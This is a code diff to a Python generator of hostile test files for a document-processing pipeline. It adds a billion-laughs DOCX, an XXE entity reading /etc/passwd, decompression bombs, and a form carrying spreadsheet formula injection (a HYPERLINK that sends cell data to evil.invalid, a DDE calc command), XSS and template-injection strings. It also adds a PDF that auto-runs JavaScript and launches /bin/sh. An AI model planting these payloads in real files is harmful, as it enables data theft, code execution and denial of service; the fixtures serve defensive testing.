@@ -11,6 +11,7 @@ import zlib
 from collections.abc import Callable, Iterable
 from dataclasses import dataclass
 from pathlib import Path
+from xml.sax.saxutils import escape
 
 MEGABYTE = 1_000_000
 BLOCK = 1 << 20
@@ -196,26 +197,86 @@ def gbk_zip(folder: Path, _size: Size) -> None:
     path.write_bytes(path.read_bytes().replace(b"AAAAAA", "申报表".encode("gbk")))
 
 
+WORD = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
+RELATIONS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
+
+
+def docx(body: bytes) -> bytes:
+    """A DOCX of this XML, behind the declaration."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", TYPES)
+        archive.writestr("_rels/.rels", RELATIONS)
+        archive.writestr("word/document.xml", b'<?xml version="1.0"?>' + body)
+    return out.getvalue()
+
+
 def office_bombs(folder: Path, size: Size) -> None:
-    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
-    rels = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
     laughs = b"".join(b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 10))
-    space = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
     bodies = {
         "laughs": b'<!DOCTYPE d [<!ENTITY l0 "ha">%s]><w:document %s><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>'
-        % (laughs, space),
+        % (laughs, WORD),
         "outside": b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document %s><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'
-        % space,
-        "deep": b"<w:document %s><w:body>%s" % (space, b"<w:p>" * size.depth),
+        % WORD,
+        "deep": b"<w:document %s><w:body>%s" % (WORD, b"<w:p>" * size.depth),
     }
     for name, body in bodies.items():
-        with zipfile.ZipFile(folder / f"{name}.docx", "w", zipfile.ZIP_DEFLATED) as archive:
-            for part, data in (
-                ("[Content_Types].xml", types),
-                ("_rels/.rels", rels),
-                ("word/document.xml", b'<?xml version="1.0"?>' + body),
-            ):
-                archive.writestr(part, data)
+        (folder / f"{name}.docx").write_bytes(docx(body))
+
+
+ATTACKS = (
+    '=HYPERLINK("http://evil.invalid/?"&A1,"湖南甲中小企业服务有限公司")',
+    "=cmd|' /C calc'!A0",
+    "岳阳市岳阳楼区<script>alert(1)</script>1号",
+    "张三{% import os %}",
+    '=HYPERLINK("http://evil.invalid")同意推荐<script>alert(1)</script><img src=http://evil.invalid/x onerror=alert(2)>{{7*7}}<w:altChunk/>\u202e\u2066\x9b2J',
+)
+"""What a form may hold for whoever opens, prints or collects our papers; in the order of `ATTACKED`."""
+ATTACKED = ("单位名称", "法定代表人", "地址", "联系人", "推荐意见")
+
+
+def speaking_form(folder: Path, _size: Size) -> None:
+    """A form whose answers are meant for Excel, a browser, Word and a terminal."""
+
+    def cell(text: str) -> str:
+        return f"<w:tc><w:p><w:r><w:t>{escape(text)}</w:t></w:r></w:p></w:tc>"
+
+    rows = "".join(f"<w:tr>{cell(label)}{cell(attack)}</w:tr>" for label, attack in zip(ATTACKED, ATTACKS, strict=True))
+    body = f"<w:document {WORD.decode()}><w:body><w:p><w:r><w:t>中小企业核心服务机构申报表</w:t></w:r></w:p><w:tbl>{rows}</w:tbl></w:body></w:document>"
+    (folder / "form.docx").write_bytes(docx(body.encode()))
+
+
+def calling_out(folder: Path, _size: Size) -> None:
+    """A PDF that would run a program, a script and an address when opened, and whose picture lies on the network."""
+    action = b"<< /S /JavaScript /JS (app.launchURL('http://evil.invalid/')) /Next << /S /Launch /F (/bin/sh) /Next << /S /URI /URI (http://evil.invalid/) >> >> >>"
+    far = b"/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (http://evil.invalid/x) >>"
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> /AA << /O 6 0 R >> >>"
+    parts = [
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page,
+        stream(b"q 99 0 0 99 72 700 cm /I Do Q"), stream(b"", far), action,
+    ]  # fmt: skip
+    (folder / "calling.pdf").write_bytes(pdf(parts))
+
+
+def nested_zips(folder: Path, size: Size) -> None:
+    """Zips in zips; and one member that the list of members names a thousand times."""
+    inner = sound()
+    for level in range(12):
+        out = io.BytesIO()
+        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+            archive.writestr("a.pdf" if level == 0 else "a.zip", inner)
+        inner = out.getvalue()
+    (folder / "nested.zip").write_bytes(inner)
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("big.pdf", b"\x00" * min(size.megabytes, 50) * MEGABYTE)
+    raw = out.getvalue()
+    at = raw.index(b"PK\x01\x02")
+    end = raw.rindex(b"PK\x05\x06")
+    entry = raw[at:end]
+    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1000, 1000, 1000 * len(entry), at, 0)
+    (folder / "overlapping.zip").write_bytes(raw[:at] + entry * 1000 + tail)
 
 
 def tiff_loop(folder: Path, _size: Size) -> None:
@@ -227,7 +288,7 @@ def tiff_loop(folder: Path, _size: Size) -> None:
 
 BOMBS: tuple[Callable[[Path, Size], None], ...] = (
     flate_bomb, zip_bomb, zip_slip, links_and_devices, huge_page, many_pages, huge_image, deep_nesting, cyclic_tree, one_line,
-    odd_names, gbk_zip, office_bombs, tiff_loop,
+    odd_names, gbk_zip, office_bombs, tiff_loop, speaking_form, calling_out, nested_zips,
 )  # fmt: skip
 
 
